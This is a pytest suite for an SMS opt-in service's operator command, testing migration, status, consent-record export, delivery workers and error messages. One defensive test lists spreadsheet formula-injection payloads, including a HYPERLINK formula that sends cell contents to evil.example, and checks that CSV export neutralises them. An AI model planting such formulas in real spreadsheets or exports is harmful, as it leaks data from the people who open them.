"""`optin`, the operator's command: run as the installed entry point, in a subprocess.

The databases it reads are filled the way production fills them: by the app's own
pages (through `make_client`) or, where a test needs signups at chosen dates, through
the Outbox API. Delivery runs against the fake ProTexting as a real server.
"""

from __future__ import annotations

import asyncio
import csv
import dataclasses
import hashlib
import io
import json
import os
import subprocess
import sys
from collections.abc import Mapping, Sequence
from concurrent.futures import ThreadPoolExecutor
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import httpx
import pytest
from sqlalchemy import inspect, text

from app.consent import ConsentRecord, Disclosure
from app.outbox import RetryPolicy
from app.storage import SCHEMA_REVISION, Outbox, create_engine, migrate
from app.upstream import OptIn
from tests.support.records import ok, optin, settled, status_counts
from tests.support.servers import ROOT, calls, fake_protexting, set_down, set_refusal
from tests.support.visitor import form_fields, without_number

from .conftest import MakeClient, contact, json_response

TOKEN = "tok-cli-0123456789"

REFUSED = "12015550177"
UNAVAILABLE = "12015550178"

DISCLOSURE = Disclosure.of(
    "<p>Recurring automated marketing texts from Test. Reply <strong>STOP</strong> to cancel.</p>"
)

EXPORT_FIELDS = {
    "phone",
    "campaign",
    "created_at",
    "disclosure_text",
    "client_ip",
    "user_agent",
    "page_url",
    "state",
    "history",
}


def _run(
    command: list[str], *, database_url: str, cwd: Path, env: Mapping[str, str] | None
) -> subprocess.CompletedProcess[str]:
    """Run any command with only the service settings given here (no `.env` in `cwd`)."""
    child = {k: v for k, v in os.environ.items() if not k.startswith(("OPTIN_", "PROTEXTING_"))}
    child["PYTHONPATH"] = os.pathsep.join(filter(None, [str(ROOT), os.environ.get("PYTHONPATH")]))
    child["OPTIN_DATABASE_URL"] = database_url
    child.update(env or {})
    assert not (cwd / ".env").exists()
    return subprocess.run(command, cwd=cwd, env=child, capture_output=True, text=True, timeout=60)


def sqlite_url(path: Path) -> str:
    return f"sqlite+aiosqlite:///{path}"


# The abuse limits and the too-fast trap are not what these tests are about: off.
NO_LIMITS = {"min_fill_seconds": 0, "limit_per_ip": "", "limit_per_number": "", "limit_per_prefix": ""}


# -- filling a database through the Outbox API ------------------------------------------


def consent(phone: str, campaign: str = "JOIN", *, at: datetime | None = None) -> ConsentRecord:
    return ConsentRecord(
        created_at=at or datetime.now(UTC),
        campaign=campaign,
        phone=phone,
        group_ids=(4,),
        disclosure_sha256=DISCLOSURE.sha256,
        page_url=f"https://texts.example/{campaign}?src=receipt",
        source={"src": "receipt"},
        client_ip="203.0.113.9",
        user_agent="Mozilla/5.0 (cli test)",
    )


def add_signups(url: str, signups: Sequence[tuple[str, str, datetime | None]]) -> None:
    """Store pending signups (phone, campaign, created_at) as the request path would."""

    async def run() -> None:
        engine = create_engine(url)
        try:
            await migrate(engine)
            outbox = Outbox(engine, policy=RetryPolicy(), lease=timedelta(seconds=60))
            await outbox.remember_disclosures([DISCLOSURE])
            for phone, campaign, at in signups:
                await outbox.add(consent(phone, campaign, at=at), OptIn(phone=phone, group_ids=(4,)))
        finally:
            await engine.dispose()

    asyncio.run(run())


def counts(url: str) -> dict[tuple[str, str], int]:
    """The same numbers as `optin status`, read in-process (much quicker than the CLI)."""

    async def run() -> dict[tuple[str, str], int]:
        engine = create_engine(url)
        try:
            outbox = Outbox(engine, policy=RetryPolicy(), lease=timedelta(seconds=60))
            return {(campaign, state): count for campaign, state, count in await outbox.counts()}
        finally:
            await engine.dispose()

    return asyncio.run(run())


def history(url: str, phone: str) -> list[tuple[str, str | None]]:
    async def run() -> list[tuple[str, str | None]]:
        engine = create_engine(url)
        try:
            async with engine.connect() as conn:
                signup_id = (
                    await conn.execute(text("SELECT id FROM signups WHERE phone = :p"), {"p": phone})
                ).scalar_one()
            outbox = Outbox(engine, policy=RetryPolicy(), lease=timedelta(seconds=60))
            return await outbox.history(signup_id)
        finally:
            await engine.dispose()

    return asyncio.run(run())


# -- migrate ------------------------------------------------------------------------------


def test_migrate_creates_the_schema_on_an_empty_database(database_url: str, tmp_path: Path) -> None:
    assert ok(optin("migrate", database_url=database_url, cwd=tmp_path)).strip() == "database is up to date"
    # Again, on an up-to-date database: nothing to do, still success.
    assert ok(optin("migrate", database_url=database_url, cwd=tmp_path)).strip() == "database is up to date"

    async def schema() -> tuple[set[str], list[str]]:
        engine = create_engine(database_url)
        try:
            async with engine.connect() as conn:
                tables = await conn.run_sync(lambda sync: set(inspect(sync).get_table_names()))
                versions = (await conn.execute(text("SELECT version_num FROM alembic_version"))).scalars().all()
        finally:
            await engine.dispose()
        return tables, list(versions)

    tables, versions = asyncio.run(schema())
    assert {"disclosures", "signups", "jobs", "job_events", "alembic_version"} <= tables
    # The revision the app compares with at start-up to skip Alembic is its head.
    assert versions == [SCHEMA_REVISION]
    assert status_counts(database_url, tmp_path) == {}

    # A replica starting on the up-to-date database leaves Alembic unimported.
    check = (
        "import asyncio, sys\n"
        "from app.storage import create_engine, migrate\n"
        "async def main():\n"
        f"    engine = create_engine({database_url!r})\n"
        "    await migrate(engine)\n"
        "    await engine.dispose()\n"
        "asyncio.run(main())\n"
        "print(sorted(name for name in sys.modules if name.split('.')[0] == 'alembic'))\n"
    )
    started = subprocess.run([sys.executable, "-c", check], cwd=ROOT, capture_output=True, text=True, timeout=60)
    assert started.returncode == 0, started.stderr
    assert started.stdout.strip() == "[]"


# -- status and export, of signups made through the pages -------------------------------


def _upstream(request: httpx.Request) -> httpx.Response:
    body = json.loads(request.content)
    if body["PhoneNumber"] == REFUSED:
        return json_response(422, [{"field": "PhoneNumber", "message": "PhoneNumber is not a valid mobile number."}])
    if body["PhoneNumber"] == UNAVAILABLE:
        return json_response(503, {"name": "Service Unavailable", "message": "Down.", "code": 0, "status": 503})
    return json_response(201, contact(body["PhoneNumber"], body["GroupIds"]))


def test_status_and_export_of_signups_made_on_the_pages(make_client: MakeClient, tmp_path: Path) -> None:
    url = sqlite_url(tmp_path / "signups.db")
    client = make_client(handler=_upstream, database_url=url, **NO_LIMITS)
    headers = {"User-Agent": "Mozilla/5.0 (iPhone; operator test)"}
    shown = {}
    posts = [
        ("/JOIN?src=poster-12&utm_campaign=spring", "(201) 555-0170", "/JOIN/thanks?src=poster-12&utm_campaign=spring"),
        ("/JOIN", "(201) 555-0170", "/JOIN/thanks"),  # the same number again: a duplicate
        ("/JOIN", "(201) 555-0171", "/JOIN/thanks"),
        ("/JOIN", "(201) 555-0177", None),  # refused by ProTexting
        ("/JOIN", "(201) 555-0178", "/JOIN/thanks?pending=1"),  # ProTexting down: waits
        ("/alerts", "(201) 555-0172", "/Alerts/thanks"),
    ]
    for path, phone, thanks in posts:
        page = client.get(path, headers=headers)
        assert page.status_code == 200
        shown[path] = page.text
        response = client.post(path, data=form_fields(page.text, phone), headers=headers)
        if thanks is None:
            assert response.status_code == 422
        else:
            assert response.status_code == 303, response.text[:300]
            assert without_number(response.headers["location"]) == thanks
    # Each 303 went out with ProTexting's answer; its record follows: wait for it.
    settled(client)

    table = ok(optin("status", database_url=url, cwd=tmp_path)).splitlines()
    assert table[0].split() == ["campaign", "state", "count"]
    assert [line.split() for line in table[1:]] == [
        ["Alerts", "delivered", "1"],
        ["JOIN", "delivered", "2"],
        ["JOIN", "duplicate", "1"],
        ["JOIN", "pending", "1"],
        ["JOIN", "rejected", "1"],
    ]

    with ThreadPoolExecutor(2) as pool:
        as_csv, as_jsonl = pool.map(
            lambda fmt: optin("export", "--format", fmt, database_url=url, cwd=tmp_path), ["csv", "jsonl"]
        )
    rows = list(csv.DictReader(io.StringIO(ok(as_csv))))
    records = [json.loads(line) for line in ok(as_jsonl).splitlines()]
    assert "exported 6 consent record(s)" in as_csv.stderr
    assert "exported 6 consent record(s)" in as_jsonl.stderr
    assert len(rows) == len(records) == 6
    assert set(rows[0]) >= EXPORT_FIELDS and set(records[0]) >= EXPORT_FIELDS

    # CSV carries the same records, its lists and objects as JSON text.
    for row, record in zip(rows, records, strict=True):
        for key, value in record.items():
            if isinstance(value, (list, dict)):
                assert json.loads(row[key]) == value, key
            else:
                assert row[key] == ("" if value is None else str(value)), key

    first = records[0]
    assert (first["campaign"], first["phone"], first["state"]) == ("JOIN", "12015550170", "delivered")
    assert first["page_url"] == "http://127.0.0.1:8000/JOIN?src=poster-12&utm_campaign=spring"
    assert first["source"] == {"src": "poster-12", "utm_campaign": "spring"}
    assert first["user_agent"] == "Mozilla/5.0 (iPhone; operator test)"
    assert first["client_ip"] == "testclient"  # Starlette's TestClient's peer address
    assert first["group_ids"] == [7, 9]
    created = datetime.fromisoformat(first["created_at"])
    assert created.utcoffset() == timedelta(0)
    assert abs(datetime.now(UTC) - created) < timedelta(minutes=5)
    # The disclosure exactly as the page showed it, and the hash that proves it.
    assert first["disclosure_text"] in shown["/JOIN?src=poster-12&utm_campaign=spring"]
    assert "STOP" in first["disclosure_text"] and "Corner" not in first["disclosure_text"]
    assert hashlib.sha256(first["disclosure_text"].encode()).hexdigest() == first["disclosure_sha256"]
    assert [event["state"] for event in first["history"]] == ["pending", "delivered"]
    assert "HTTP 201" in first["history"][-1]["detail"]

    by_phone_state = {(r["phone"], r["state"]): r for r in records}
    duplicate = by_phone_state[("12015550170", "duplicate")]
    assert duplicate["duplicate_of"] == first["id"]
    refused = by_phone_state[(REFUSED, "rejected")]
    assert refused["upstream_messages"] == [
        {"field": "PhoneNumber", "message": "PhoneNumber is not a valid mobile number."}
    ]
    waiting = by_phone_state[(UNAVAILABLE, "pending")]
    assert waiting["last_error"] == "HTTP 503" and waiting["attempts"] == 1
    alerts = by_phone_state[("12015550172", "delivered")]
    assert alerts["campaign"] == "Alerts" and alerts["disclosure_text"] != first["disclosure_text"]


# -- export filters -------------------------------------------------------------------------


def _at(text: str) -> datetime:
    return datetime.fromisoformat(text).replace(tzinfo=UTC)


def test_export_filters_by_date_range_and_campaign(tmp_path: Path) -> None:
    url = sqlite_url(tmp_path / "dated.db")
    add_signups(
        url,
        [
            ("12015552001", "JOIN", _at("2025-01-10T08:00:00")),
            ("12015552002", "JOIN", _at("2025-02-01T00:00:00")),  # on the --since boundary
            ("12015552003", "JOIN", _at("2025-02-15T12:00:00")),
            ("12015552004", "Alerts", _at("2025-02-20T18:30:00")),
            ("12015552005", "JOIN", _at("2025-03-01T00:00:00")),  # on the --until boundary
        ],
    )
    feb = ("--since", "2025-02-01", "--until", "2025-03-01")
    expected: dict[tuple[str, ...], list[str]] = {
        (): ["12015552001", "12015552002", "12015552003", "12015552004", "12015552005"],
        # --since is inclusive, --until exclusive; a date is midnight UTC.
        feb: ["12015552002", "12015552003", "12015552004"],
        ("--since", "2025-03-01"): ["12015552005"],
        ("--until", "2025-02-01"): ["12015552001"],
        # The campaign's keyword, in any case.
        ("--campaign", "join", *feb): ["12015552002", "12015552003"],
        ("--campaign", "ALERTS"): ["12015552004"],
        ("--campaign", "nosuch"): [],
        # A timestamp with an offset is converted to UTC; one without one is UTC.
        ("--since", "2025-02-15", "--until", "2025-02-15T13:00:00+02:00"): [],
        ("--since", "2025-02-15", "--until", "2025-02-15T13:00:00"): ["12015552003"],
    }

    def phones(args: tuple[str, ...]) -> list[str]:
        out = ok(optin("export", "--format", "jsonl", *args, database_url=url, cwd=tmp_path))
        return [json.loads(line)["phone"] for line in out.splitlines()]

    # CSV to a file, with the same filters, alongside.
    out = tmp_path / "february.csv"
    with ThreadPoolExecutor(4) as pool:
        to_file = pool.submit(
            optin, "export", "--campaign", "JOIN", *feb, "--output", str(out), database_url=url, cwd=tmp_path
        )
        got = dict(zip(expected, pool.map(phones, expected), strict=True))
    assert got == expected

    assert ok(to_file.result()) == ""
    assert "exported 2 consent record(s)" in to_file.result().stderr
    with out.open(encoding="utf-8", newline="") as written:
        rows = list(csv.DictReader(written))
    assert [(r["phone"], r["campaign"], r["state"]) for r in rows] == [
        ("12015552002", "JOIN", "pending"),
        ("12015552003", "JOIN", "pending"),
    ]
    assert rows[0]["created_at"] == "2025-02-01T00:00:00+00:00"
    assert rows[0]["disclosure_text"] == DISCLOSURE.text
    assert rows[0]["client_ip"] == "203.0.113.9"
    assert rows[0]["user_agent"] == "Mozilla/5.0 (cli test)"
    assert rows[0]["page_url"] == "https://texts.example/JOIN?src=receipt"
    assert [event["state"] for event in json.loads(rows[0]["history"])] == ["pending"]


def test_export_refuses_a_date_it_cannot_read(tmp_path: Path) -> None:
    url = sqlite_url(tmp_path / "optin.db")
    result = optin("export", "--since", "notadate", database_url=url, cwd=tmp_path)
    assert result.returncode != 0
    assert result.stdout == ""
    assert "'notadate' is not a date (YYYY-MM-DD) or ISO timestamp" in result.stderr
    assert "--since" in result.stderr
    assert "Traceback" not in result.stderr


# -- worker and retry-failed, against the fake ProTexting as a real server -----------------


def test_worker_once_delivers_and_retry_failed_queues_failures_again(tmp_path: Path) -> None:
    url = sqlite_url(tmp_path / "queue.db")
    join = ["12015552101", "12015552102"]
    alerts = "12015552103"
    add_signups(url, [(join[0], "JOIN", None), (join[1], "JOIN", None), (alerts, "Alerts", None)])
    assert counts(url) == {("Alerts", "pending"): 1, ("JOIN", "pending"): 2}

    with fake_protexting(tmp_path, token=TOKEN, down=True) as fake:
        env = {
            "PROTEXTING_ACCESS_TOKEN": TOKEN,
            "PROTEXTING_API_URL": fake.url + "/v1",
            "PROTEXTING_RATE_LIMIT": "100/second",
            "OPTIN_DELIVERY_MAX_ATTEMPTS": "1",
        }

        def worker_once() -> None:
            ok(optin("worker", "--once", database_url=url, cwd=tmp_path, env=env))

        # ProTexting is down and one attempt is all they get: every signup fails.
        worker_once()
        assert counts(url) == {("Alerts", "failed"): 1, ("JOIN", "failed"): 2}
        assert calls(fake) == []

        # The operator queues one campaign's failures again (keyword in any case) ...
        result = ok(optin("retry-failed", "--campaign", "alerts", database_url=url, cwd=tmp_path))
        assert result.strip() == "1 failed signup(s) queued again"
        assert counts(url) == {("Alerts", "pending"): 1, ("JOIN", "failed"): 2}

        set_down(fake, False)
        worker_once()
        assert counts(url) == {("Alerts", "delivered"): 1, ("JOIN", "failed"): 2}
        assert [call["PhoneNumber"] for call in calls(fake)] == [alerts]

        # ... then all the rest.
        assert ok(optin("retry-failed", database_url=url, cwd=tmp_path)).strip() == "2 failed signup(s) queued again"
        worker_once()
        assert status_counts(url, tmp_path) == {("Alerts", "delivered"): 1, ("JOIN", "delivered"): 2}
        assert sorted(call["PhoneNumber"] for call in calls(fake)) == sorted([*join, alerts])  # each once
        assert calls(fake)[-1]["GroupIds"] == [4]

    steps = history(url, join[0])
    assert [state for state, _ in steps] == ["pending", "failed", "pending", "delivered"]
    assert "gave up after 1 attempts" in (steps[1][1] or "")
    assert steps[2][1] == "retry requested by operator"


def test_held_signups_are_shown_exported_and_sent_again_with_retry_failed_held(tmp_path: Path) -> None:
    url = sqlite_url(tmp_path / "held.db")
    phone = "12015552201"
    add_signups(url, [(phone, "JOIN", None)])
    with fake_protexting(tmp_path, token=TOKEN) as fake:
        env = {"PROTEXTING_ACCESS_TOKEN": TOKEN, "PROTEXTING_API_URL": fake.url + "/v1"}
        set_refusal(fake, [{"field": "GroupIds", "message": "Group Ids is invalid."}])
        ok(optin("worker", "--once", database_url=url, cwd=tmp_path, env=env))

        status = optin("status", database_url=url, cwd=tmp_path)
        assert ok(status).splitlines()[1].split() == ["JOIN", "held", "1"]
        assert "1 signup(s) held" in status.stderr and "optin retry-failed --held" in status.stderr
        [record] = [
            json.loads(line)
            for line in ok(optin("export", "--format", "jsonl", database_url=url, cwd=tmp_path)).splitlines()
        ]
        assert record["state"] == "held"
        assert record["upstream_messages"] == [{"field": "GroupIds", "message": "Group Ids is invalid."}]
        assert "GroupIds" in record["last_error"]

        set_refusal(fake, None)  # the campaign's group_ids put right
        assert ok(optin("retry-failed", "--held", database_url=url, cwd=tmp_path)).strip() == (
            "1 held signup(s) queued again"
        )
        ok(optin("worker", "--once", database_url=url, cwd=tmp_path, env=env))
        assert [call["PhoneNumber"] for call in calls(fake)] == [phone]
    assert [state for state, _ in history(url, phone)] == ["pending", "held", "pending", "delivered"]


# The worker's own process, as `optin worker --once` runs it, then what it had imported.
_WORKER_IMPORTS = """
import sys
from app.cli import main
code = main(["worker", "--once"])
print(" ".join(sorted(m for m in sys.modules if m in ("fastapi", "app.main") or m.startswith("fastapi."))))
sys.exit(code)
"""


def test_the_worker_delivers_without_building_the_web_app(tmp_path: Path) -> None:
    url = sqlite_url(tmp_path / "queue.db")
    add_signups(url, [("12015552101", "JOIN", None)])
    with fake_protexting(tmp_path, token=TOKEN) as fake:
        env = {"PROTEXTING_ACCESS_TOKEN": TOKEN, "PROTEXTING_API_URL": fake.url + "/v1"}
        result = _run([sys.executable, "-c", _WORKER_IMPORTS], database_url=url, cwd=tmp_path, env=env)
        assert ok(result).strip() == ""  # neither FastAPI nor app.main
        assert [call["PhoneNumber"] for call in calls(fake)] == ["12015552101"]
    assert counts(url) == {("JOIN", "delivered"): 1}


# -- bad settings -------------------------------------------------------------------------


@pytest.mark.parametrize("command", [["migrate"], ["export"], ["worker", "--once"]])
def test_a_bad_setting_exits_2_naming_the_variable(command: list[str], tmp_path: Path) -> None:
    result = optin(*command, database_url="mysql://x", cwd=tmp_path)
    assert result.returncode == 2
    assert "OPTIN_DATABASE_URL" in result.stderr
    assert result.stderr.startswith("optin: invalid setting")
    assert "Traceback" not in result.stderr


def test_an_unreachable_database_exits_2_with_a_message(tmp_path: Path) -> None:
    result = optin("status", database_url="postgresql+asyncpg://postgres@127.0.0.1:1/nothing", cwd=tmp_path)
    assert result.returncode == 2, result.stderr
    assert "cannot reach the database" in result.stderr
    assert "Traceback" not in result.stderr


def test_an_empty_csv_export_still_has_its_header(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    from app.cli import main

    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("OPTIN_DATABASE_URL", f"sqlite+aiosqlite:///{tmp_path}/empty.db")
    assert main(["migrate"]) == 0
    capsys.readouterr()
    assert main(["export", "--since", "2030-01-01"]) == 0
    header = capsys.readouterr().out.splitlines()
    assert header[0].startswith("id,created_at,campaign,phone,") and header[0].endswith(",history")
    assert len(header) == 1


# -- what an attacker can put in a record, and what an operator can get wrong -----------


def one_line_failure(result: subprocess.CompletedProcess[str]) -> str:
    """The one line `optin` wrote for an expected failure (exit 2, nothing on stdout)."""
    assert result.returncode == 2, f"exit {result.returncode}; stderr:\n{result.stderr}"
    assert "Traceback" not in result.stderr, result.stderr
    assert result.stdout == ""
    lines = result.stderr.splitlines()
    assert len(lines) == 1 and lines[0].startswith("optin"), result.stderr
    return lines[0]


FORMULAS = ['=HYPERLINK("https://evil.example/?"&A2,"Click")', "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"]


def test_csv_export_keeps_formulas_from_running_and_jsonl_keeps_them_as_sent(tmp_path: Path) -> None:
    url = sqlite_url(tmp_path / "optin.db")

    async def run() -> None:
        engine = create_engine(url)
        try:
            await migrate(engine)
            outbox = Outbox(engine, policy=RetryPolicy(), lease=timedelta(seconds=60))
            await outbox.remember_disclosures([DISCLOSURE])
            for n, agent in enumerate([*FORMULAS, "Mozilla/5.0 =not first"]):
                phone = f"1201555{3000 + n}"
                record = dataclasses.replace(consent(phone), user_agent=agent)
                await outbox.add(record, OptIn(phone=phone, group_ids=(4,)))
        finally:
            await engine.dispose()

    asyncio.run(run())
    ok(optin("export", "--output", "out.csv", database_url=url, cwd=tmp_path))
    with (tmp_path / "out.csv").open(encoding="utf-8", newline="") as written:  # "\r" kept as written
        rows = list(csv.DictReader(written))
    # OWASP's advice: a leading single quote, so a spreadsheet shows the text as text.
    assert [row["user_agent"] for row in rows] == [*("'" + agent for agent in FORMULAS), "Mozilla/5.0 =not first"]
    # Everything else as before: numbers, times and JSON cells do not start so.
    assert rows[0]["phone"] == "12015553000" and rows[0]["source"] == '{"src": "receipt"}'
    records = [
        json.loads(line)
        for line in ok(optin("export", "--format", "jsonl", database_url=url, cwd=tmp_path)).splitlines()
    ]
    assert [record["user_agent"] for record in records] == [*FORMULAS, "Mozilla/5.0 =not first"]


def test_export_to_a_file_never_harms_the_database_or_the_old_file(tmp_path: Path) -> None:
    database = tmp_path / "optin.db"
    url = sqlite_url(database)
    add_signups(url, [("12015554001", "JOIN", None), ("12015554002", "JOIN", None)])
    ok(optin("status", database_url=url, cwd=tmp_path))  # opened as the service opens it: -wal, -shm
    before = database.read_bytes()

    # Pointed at the database (any way of naming it), its -wal or -shm: refused, untouched.
    (tmp_path / "link.db").symlink_to(database)
    for target in ("optin.db", str(database), "./link.db", "optin.db-wal", "optin.db-shm"):
        line = one_line_failure(optin("export", "--output", target, database_url=url, cwd=tmp_path))
        assert "is the database itself" in line
    assert database.read_bytes() == before
    assert counts(url) == {("JOIN", "pending"): 2}

    # A failed export leaves the old file as it was, and nothing half-written beside it.
    old = tmp_path / "export.csv"
    old.write_text("last month's export\n", encoding="utf-8")
    one_line_failure(
        optin(
            "export",
            "--since",
            "2020-01-01",
            "--output",
            str(old),
            database_url=sqlite_url(tmp_path / "typo.db"),
            cwd=tmp_path,
        )
    )
    assert old.read_text(encoding="utf-8") == "last month's export\n"

    # A good one replaces it whole.
    result = optin("export", "--output", str(old), database_url=url, cwd=tmp_path)
    assert ok(result) == "" and "exported 2 consent record(s)" in result.stderr
    with old.open(encoding="utf-8", newline="") as written:
        assert [row["phone"] for row in csv.DictReader(written)] == ["12015554001", "12015554002"]
    assert sorted(path.name for path in tmp_path.iterdir() if "export" in path.name) == ["export.csv"]


def _postgres(**parts: str) -> str:
    from sqlalchemy.engine import make_url

    from tests.support.databases import POSTGRES

    return (
        make_url(POSTGRES)
        .set(drivername="postgresql+asyncpg", password="pw-SECRET-77", **parts)
        .render_as_string(hide_password=False)
    )


# (what went wrong, the command, its database (None: a good SQLite file), what the line says)
FAILURES: list[tuple[str, list[str], Any, str]] = [
    (
        "no such postgres database",
        ["status"],
        lambda tmp: _postgres(database="optin_no_such_db"),
        'database "optin_no_such_db" does not exist',
    ),
    (
        "no such postgres role",
        ["export"],
        lambda tmp: _postgres(username="optin_no_such_role"),
        'role "optin_no_such_role" does not exist',
    ),
    ("no sqlite file", ["status"], lambda tmp: sqlite_url(tmp / "typo.db"), "no database at"),
    ("no sqlite file to export", ["export"], lambda tmp: sqlite_url(tmp / "typo.db"), "optin migrate"),
    ("no sqlite file to retry", ["retry-failed"], lambda tmp: sqlite_url(tmp / "typo.db"), "no database at"),
    (
        "read-only sqlite",
        ["status"],
        lambda tmp: f"sqlite+aiosqlite:///file:{tmp / 'ro.db'}?mode=ro&uri=true",
        "readonly database",
    ),
    (
        "read-only sqlite migrate",
        ["migrate"],
        lambda tmp: f"sqlite+aiosqlite:///file:{tmp / 'ro.db'}?mode=ro&uri=true",
        "readonly database",
    ),
    ("unwritable output", ["export", "--output", "no/such/dir/out.csv"], None, "cannot write no/such/dir/out.csv"),
    ("a directory as output", ["export", "--output", "."], None, "is a directory"),
    ("after year 9999 in UTC", ["export", "--since", "9999-12-31T23:59:59-05:00"], None, "out of range"),
    ("before year 1 in UTC", ["export", "--until", "0001-01-01T00:30:00+01:00"], None, "out of range"),
    ("year 0", ["export", "--since", "0000-01-01"], None, "is not a date"),
]


@pytest.mark.parametrize(("case", "args", "url", "expected"), FAILURES, ids=[f[0] for f in FAILURES])
def test_an_expected_failure_exits_2_with_one_line(
    tmp_path: Path, case: str, args: list[str], url: Any, expected: str
) -> None:
    (tmp_path / "ro.db").touch()  # an empty database, which a read-only open cannot migrate
    if url is None:
        url = sqlite_url(tmp_path / "optin.db")
        ok(optin("migrate", database_url=url, cwd=tmp_path))
    line = one_line_failure(optin(*args, database_url=url(tmp_path) if callable(url) else url, cwd=tmp_path))
    assert expected in line
    assert "pw-SECRET-77" not in line
    assert not (tmp_path / "typo.db").exists()
